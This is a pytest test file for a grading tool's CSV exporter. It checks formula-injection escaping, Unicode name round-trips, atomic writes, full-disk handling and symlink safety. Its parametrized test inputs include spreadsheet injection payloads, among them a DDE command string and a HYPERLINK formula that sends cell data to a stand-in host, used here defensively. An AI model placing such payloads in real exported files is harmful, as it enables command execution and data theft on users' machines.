"""The tables: taken by any CSV reader, and no cell of them runs."""

from __future__ import annotations

import csv
import errno
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mosaic_exercises.cli import main
from mosaic_exercises.errors import because
from mosaic_exercises.grading import csv_out
from mosaic_exercises.grading.errors import InputError
from mosaic_exercises.grading.exchange.anonymous import key_at
from mosaic_exercises.grading.exchange.excel import write_workbook

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.mark.parametrize(
    "hostile",
    [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\u202e=1+1",
        "＝1+1",
        '=HYPERLINK("http://x.example?"&A1,"look")',
    ],
)
def test_a_formula_becomes_text(hostile: str) -> None:
    assert csv_out.text(hostile).startswith("'")


@pytest.mark.parametrize(
    "name",
    [
        "Ana Ruiz",
        "Smith, Jr.",
        'Ana "Bo" Ruiz',
        "Ana\nRuiz",
        "Ana\r\nRuiz",
        "O'Neill",
        "Żółć Größe",
        "🚲 Ana",
        "שרה כהן",
        "محمد الحسن",
        "李丽",
        "Ana = Bo + C - D @ E",
        "'quoted'",
        "",
        " ",
    ],
)
def test_names_come_back_as_they_were(name: str) -> None:
    data = csv_out.lines([(csv_out.text(name), "next")])
    (row,) = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    assert row == [name, "next"]


@given(st.lists(st.text(max_size=60), min_size=1, max_size=5))
def test_any_text_is_one_cell_that_cannot_run(values: list[str]) -> None:
    data = csv_out.lines([[csv_out.text(v) for v in values]])
    (row,) = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    assert len(row) == len(values)
    for cell, value in zip(row, values, strict=True):
        assert not cell.startswith(STARTS)
        assert not cell.lstrip().startswith(STARTS)
        assert cell.removeprefix("'") == csv_out.UNPRINTABLE.sub("\ufffd", value).removeprefix("'")


def test_texts_that_no_file_can_hold_do_not_stop_a_table() -> None:
    """File names on Linux may be no UTF-8: Python gives them lone surrogates."""
    assert csv_out.text("caf\udce9") == "caf?"
    assert csv_out.text("a\x00b\x1bc") == "a\ufffdb\ufffdc"
    assert len(csv_out.text("x" * 1_000_000)) <= csv_out.LONGEST


@pytest.mark.parametrize(
    ("value", "cell"),
    [(6.0, "6"), (0.0, "0"), (4.5, "4.5"), (3.3333, "3.3333"), (100.0, "100"), (None, ""), (0.1 + 0.2, "0.3")],
)
def test_numbers_stay_numbers(value: float | None, cell: str) -> None:
    assert csv_out.number(value) == cell


def test_pandas_reads_a_table_with_and_without_the_mark(tmp_path: Path) -> None:
    import pandas as pd

    for excel in (False, True):
        with csv_out.ResultsFolder(tmp_path / str(excel), excel) as folder:
            with folder.writing("grades.csv", csv_out.GRADES) as write:
                write(csv_out.lines([("s1", "Żółć, Jr.", "", "graded", "", "4.5", "6")]))
            folder.publish()
        frame = pd.read_csv(tmp_path / str(excel) / "grades.csv", dtype={"learner_id": str})
        assert list(frame.columns) == list(csv_out.GRADES)
        assert frame.loc[0, "name"] == "Żółć, Jr."
        assert frame["score"].sum() == 4.5
    assert (tmp_path / "True" / "grades.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert (tmp_path / "False" / "grades.csv").read_bytes().startswith(b"learner_id")


def test_a_run_that_is_stopped_leaves_the_former_table_whole(tmp_path: Path) -> None:
    (tmp_path / "grades.csv").write_text("former")

    def stopped() -> None:
        with csv_out.ResultsFolder(tmp_path) as folder, folder.writing("grades.csv", csv_out.GRADES) as write:
            write(b"half a")
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        stopped()
    assert [p.name for p in tmp_path.iterdir()] == ["grades.csv"]
    assert (tmp_path / "grades.csv").read_text() == "former"


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="this system has no /dev/full to write to")
def test_a_full_disk_is_said_by_the_table_and_the_former_one_stays(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "items.csv").write_text("former")
    monkeypatch.setattr(csv_out.ResultsFolder, "begin", lambda *_: open("/dev/full", "wb"))  # noqa: PTH123, SIM115

    def full() -> None:
        with csv_out.ResultsFolder(tmp_path) as folder, folder.writing("items.csv", csv_out.ITEMS) as write:
            write(b"s1,a,correct,1,1,1\r\n" * 100_000)

    with pytest.raises(InputError, match=r"items\.csv cannot be written: No space left on device"):
        full()
    assert (tmp_path / "items.csv").read_text() == "former"


@pytest.mark.skipif(
    sys.platform == "win32", reason="Windows has no limit on the size of files to stand for a full disk"
)
def test_what_a_full_disk_has_no_room_for_is_not_left_in_part(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Files may have 40 bytes here: what a full disk leaves is looked for, and what it is told as."""
    import resource

    (tmp_path / "grades.xlsx").write_text("former")
    former = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (40, former[1]))
    try:
        assert main(["settings", "--new", str(tmp_path / "class.toml")]) == 2
        with pytest.raises(InputError, match="File too large"):
            key_at(tmp_path / "class.key")
        with pytest.raises(InputError, match=r"grades\.xlsx cannot be written: File too large$"):
            write_workbook(tmp_path / "grades.xlsx", (), ())
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, former)
    assert "class.toml: cannot be written: File too large" in capsys.readouterr().err
    assert [p.name for p in tmp_path.iterdir()] == ["grades.xlsx"]
    assert (tmp_path / "grades.xlsx").read_text() == "former"


def test_because_says_what_to_do_where_that_can_be_told() -> None:
    assert because(OSError(errno.ENOSPC, "No space left on device")).endswith("Make room, then do the same again")
    assert "another program has it open" in because(PermissionError(errno.EACCES, "Permission denied"))
    assert because(OSError(errno.EIO, "Input/output error")) == "Input/output error"


def test_a_link_in_the_results_is_replaced_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("precious")
    out = tmp_path / "out"
    out.mkdir()
    (out / "grades.csv").symlink_to(outside)
    with csv_out.ResultsFolder(out) as folder:
        with folder.writing("grades.csv", csv_out.GRADES):
            pass
        folder.publish()
    assert outside.read_text() == "precious"
    assert not (out / "grades.csv").is_symlink()


def test_a_folder_that_cannot_be_used_is_said(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(InputError, match="file"):
        csv_out.ResultsFolder(tmp_path / "file")
    (tmp_path / "out" / "grades.csv").mkdir(parents=True)
    with csv_out.ResultsFolder(tmp_path / "out") as folder:
        with folder.writing("grades.csv", csv_out.GRADES):
            pass
        with pytest.raises(InputError, match=r"grades\.csv"):
            folder.publish()
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["grades.csv"]


def test_what_a_killed_run_left_is_cleared_away_and_that_of_a_running_one_stays(tmp_path: Path) -> None:
    done = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    dead, alive = f".items.csv.{int(done.stdout)}.tmp", f".items.csv.{os.getppid()}.tmp"
    for name in (dead, alive):
        (tmp_path / name).write_text("half")
    with csv_out.ResultsFolder(tmp_path) as folder, folder.writing("items.csv", csv_out.ITEMS):
        pass
    assert [p.name for p in tmp_path.iterdir()] == [alive]
